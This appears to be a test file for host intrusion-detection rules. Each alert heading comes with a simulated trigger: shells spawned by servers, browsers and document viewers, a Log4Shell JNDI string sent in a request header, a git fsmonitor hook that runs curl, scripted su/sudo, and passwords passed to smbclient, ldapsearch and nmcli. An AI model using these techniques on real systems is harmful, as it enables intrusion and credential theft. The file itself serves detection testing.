## Shell started by a network server
server 'true'
## Shell started by a program that listens
printf 'import os, socket\ns = socket.create_server(("", 8000))\nos.system("true")\n' > /srv/app.py
python3 /srv/app.py
## Shell started by an application in a container
#also Suspicious Process Execution
#in shop:1
node -e 'require("child_process").execSync("true")'
## Interpreter started by a network server in a container
#also Right over the host used by a server's command in a container
#also Suspicious Process Execution
#in shop:1
/usr/sbin/httpd -c 'python3 -c pass; true'
## Shell started by a viewer of documents
#setup shells /usr/bin/evince
evince -c 'sh -c true; true'
## Program run from a removable disk
#setup mkdir -p /media 2>/dev/null; mount -t tmpfs none /media; stubs /media/ann/STICK/setup
/media/ann/STICK/setup
## Download tool started by an install script
sh -c 'curl -s http://10.9.8.7/ || true; : postinstall'
## Root login over SSH with a password
#also Login from the internet with a password
#also Login that checks nobody's identity
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
login right root; end_log
## Login from the internet with a password
#also Login that checks nobody's identity
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
login right ann; end_log
## Attack on a library seen in a log
#also Attack in the text of a request
#also Server stopped by hand
#also Transfer tool given a bare private address and a scratch folder
#setup start_log
#setup mkdir -p /var/lib/nginx; printf 'events {}\nhttp { access_log /var/log/nginx/access.log; server { listen 80; } }\n' > /srv/nginx.conf
nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
## Server or set-user-id program crashes again and again
#also Service crashes several times
cp /opt/lab/fault /usr/sbin/nginx; nginx forks 20
## Shell started by a browser or messenger
#setup shells /usr/lib/firefox/firefox
/usr/lib/firefox/firefox -c 'sh -c true; true'
## Shell started by a service for mail, printing or remote work
#setup shells /usr/sbin/cupsd
cupsd -c 'sh -c true; true'
## Download tool started by a command of a repository
#setup git init -q /home/ann/lib; printf '#!/bin/sh\ncurl -s http://10.9.8.7/ || true\n' > /home/ann/lib/.git/fsm; chmod 755 /home/ann/lib/.git/fsm
#setup git -C /home/ann/lib config core.fsmonitor .git/fsm
cd /home/ann/lib; git status
## Password given to su by a script
setpriv --reuid 1000 --regid 1000 --clear-groups su -c true root < /dev/null
## Password given to sudo by a script
setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -k true < /dev/null
## Database client started by a server's command
#also Shell started by a network server
#setup stubs /usr/bin/mysql
server 'mysql -h 10.9.8.7 -u shop -e x'
## Account of a directory used with a password argument
#also Tool for Windows machines started
#setup stubs /usr/bin/smbclient
smbclient //10.9.8.7/x -U corp/ann%secret
## Directory asked with a password argument
#setup stubs /usr/bin/ldapsearch
ldapsearch -x -D cn=x -w secret
## Wireless network joined by hand
#also Other way out of the machine opened
#setup stubs /usr/bin/nmcli
nmcli dev wifi connect Corp password secret
## Key of a wireless network written
mkdir -p /var/lib/iwd; echo x > /var/lib/iwd/Corp.psk
